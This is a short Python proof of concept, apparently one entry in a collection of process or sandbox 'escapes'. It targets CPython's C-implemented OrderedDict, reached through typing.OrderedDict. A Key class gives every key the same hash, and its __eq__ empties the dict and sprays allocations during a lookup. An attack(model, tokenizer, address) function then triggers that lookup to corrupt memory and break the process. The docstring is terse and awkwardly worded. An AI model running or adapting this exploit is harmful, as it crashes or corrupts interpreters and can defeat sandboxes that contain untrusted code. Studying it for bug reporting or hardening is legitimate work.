"""Class: memory. Source: own find. Escape: the process breaks.
The alias of `typing` makes the OrderedDict of the library, in C: a key that empties it is compared."""

import typing


class Key:
    def __hash__(self):
        return 1

    def __eq__(self, other):
        if armed:
            armed.clear()
            walked.clear()
            kept.extend(bytes(48) for _ in range(2000))
        return self is other


armed = []
kept = []
walked = typing.OrderedDict((Key(), i) for i in range(50))


def attack(model, tokenizer, address):
    keys = list(walked)
    armed.append(1)
    try:
        walked.move_to_end(keys[30])
    except KeyError:
        pass
    for number in range(3):
        walked[number] = number
    list(walked)
